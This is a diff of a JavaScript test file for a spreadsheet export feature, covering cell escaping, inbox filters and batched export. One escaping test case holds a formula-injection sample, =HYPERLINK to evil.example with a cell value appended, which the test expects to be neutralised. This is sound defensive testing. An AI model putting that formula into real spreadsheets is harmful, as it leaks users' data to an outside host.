@@ -146,18 +146,9 @@ describe("line of the exported file", () => {
   });
 
   test.each([
-    ["a, b; c", "a, b; c"],
-    ['say "hello"', 'say "hello"'],
-    ['"', '"'],
-    ["one\r\ntwo", "one\r\ntwo"],
-    ["one\ntwo", "one\ntwo"],
-    ["one\rtwo", "one\rtwo"],
+    ['say "a, b; c"\r\ntwo', 'say "a, b; c"\r\ntwo'],
     ["Ñandú 🎁 日本 \u202e", "Ñandú 🎁 日本 \u202e"],
-    ["=1+1", "'=1+1"],
     ['=HYPERLINK("https://evil.example?"&A1,"x")', `'=HYPERLINK("https://evil.example?"&A1,"x")`],
-    ["@SUM(A1)", "'@SUM(A1)"],
-    ["-2+3", "'-2+3"],
-    ['" =1', `'" =1`],
     ["hello\n=1", "hello\n'=1"],
   ])("exports a visitor's text %j as %j in each column", async (written, shown) => {
     const owner_id = (await records.operator()).id;
@@ -183,38 +174,17 @@ test("begins a phone with its plus, but not a formula that begins like one", asy
   expect(rows.map(({ phone }) => phone)).toEqual(shown);
 });
 
-test("applies every filter of the inbox to the exported file", async () => {
-  const [owner, me] = [await records.operator(), await records.operator()];
-  const agent = `Assistant ${newWord()}`;
-  const q = newWord();
-  const shared = { owner_id: owner.id, name: q };
-  const byAgent = { channel: "ai_agent", agent_name: agent, user_consent: true, consent_evidence: "elicited" };
-  const lead = await records.evaluation({ ...shared, ...byAgent, route: "qualified", language: "en", status: "won" });
-  const inquiry = await records.inquiry({ ...shared, created_at: new Date("2026-11-19T12:00:00Z") });
-  const mine = await records.evaluation({ owner_id: me.id, created_at: new Date("2026-11-18T12:00:00Z") });
-  const own = { owner: owner.id };
-  expect(await findExported(own)).toEqual([lead, inquiry]);
-  expect(await findExported({ ...own, kind: "inquiry" })).toEqual([inquiry]);
-  expect(await findExported({ ...own, route: "qualified" })).toEqual([lead]);
-  expect(await findExported({ ...own, route: "redirect" })).toEqual([]);
-  expect(await findExported({ ...own, status: ["won", "lost"] })).toEqual([lead]);
-  expect(await findExported({ ...own, status: "open" })).toEqual([inquiry]);
-  expect(await findExported({ ...own, channel: "web" })).toEqual([inquiry]);
-  expect(await findExported({ ...own, language: "en" })).toEqual([lead]);
-  expect(await findExported({ ...own, from: "2026-11-20" })).toEqual([lead]);
-  expect(await findExported({ ...own, to: "2026-11-20" })).toEqual([inquiry]);
-  expect(await findExported({ agent: agent.toUpperCase() })).toEqual([lead]);
-  expect(await findExported({ q })).toEqual([lead, inquiry]);
-  expect(await findExported({ q, kind: "evaluation" })).toEqual([lead]);
+test("applies the inbox's filters, search and sort order to the exported file, but not its page", async () => {
+  const [owner, q] = [(await records.operator()).id, newWord()];
+  const lead = await records.evaluation({ owner_id: owner, name: q, status: "won" });
+  const inquiry = await records.inquiry({ owner_id: owner, name: q, created_at: hoursAgo(3) });
+  expect(await findExported({ owner, status: ["won", "lost"] })).toEqual([lead]);
+  expect(await findExported({ owner, to: "2026-11-20" })).toEqual([]);
+  expect(await findExported({ q, kind: "inquiry" })).toEqual([inquiry]);
   expect(await findExported({ q: "?!" })).toEqual([]);
-  expect(await findExported({ owner: "me" }, me)).toEqual([mine]);
-  expect(await findExported({ ...own, sort: "oldest" })).toEqual([inquiry, lead]);
-  expect(await findExported({ ...own, sort: "due" })).toEqual([inquiry, lead]);
-  expect(await readExport({ ...own, consent: "elicited" })).toMatchObject([{ id: `${lead.id}`, consent: "elicited" }]);
-  expect(await findExported({ ...own, cursor: `inquiry-${now.getTime()}-1`, direction: "backward" })).toEqual([
-    lead,
-    inquiry,
-  ]);
+  expect(await findExported({ owner, sort: "oldest" })).toEqual([inquiry, lead]);
+  const page = { cursor: `inquiry-${now.getTime()}-1`, direction: "backward" };
+  expect(await findExported({ owner, ...page })).toEqual([lead, inquiry]);
 });
 
 test("exports only the header when nothing matches", async () => {
@@ -240,20 +210,17 @@ describe("batches of an export", () => {
     refs = stored.map(({ kind, id }) => ({ kind, id }));
   });
 
-  test.each([1, 2, 3, 8, 16, 17, 18])(
-    "exports every row once, in order, in batches of %d rows with one header",
-    async (limit) => {
-      for (const status of ["", "open"]) {
-        expect(toRefs(await readExport({ owner, status }, limit))).toEqual(refs);
-        expect(toRefs(await readExport({ owner, status, sort: "oldest" }, limit))).toEqual(refs.toReversed());
-        expect(toRefs(await readExport({ owner, status, sort: "due" }, limit))).toEqual([
-          ...refs.filter(({ kind }) => kind === "evaluation").reverse(),
-          ...refs.filter(({ kind }) => kind === "inquiry"),
-        ]);
-      }
-      expect((await listParts({ owner }, limit)).length).toBe(Math.ceil(17 / limit));
-    },
-  );
+  test.each([1, 8, 17])("exports every row once, in order, in batches of %d rows with one header", async (limit) => {
+    for (const status of ["", "open"]) {
+      expect(toRefs(await readExport({ owner, status }, limit))).toEqual(refs);
+      expect(toRefs(await readExport({ owner, status, sort: "oldest" }, limit))).toEqual(refs.toReversed());
+      expect(toRefs(await readExport({ owner, status, sort: "due" }, limit))).toEqual([
+        ...refs.filter(({ kind }) => kind === "evaluation").reverse(),
+        ...refs.filter(({ kind }) => kind === "inquiry"),
+      ]);
+    }
+    expect((await listParts({ owner }, limit)).length).toBe(Math.ceil(17 / limit));
+  });
 
   test("reads batches of an export only on demand", async () => {
     const name = newWord();
